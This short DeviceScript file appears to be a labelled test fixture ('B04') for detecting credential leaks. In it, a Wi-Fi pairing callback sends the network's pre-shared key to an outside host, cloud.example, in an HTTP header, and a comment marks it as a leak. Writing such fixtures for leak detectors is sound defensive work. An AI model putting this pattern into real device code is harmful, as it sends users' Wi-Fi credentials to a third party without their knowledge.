// B04: in a header.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const response = await fetch("https://cloud.example/", { headers: { "x-key": psk } }); // leak: wifi.psk
  await response.close();
});
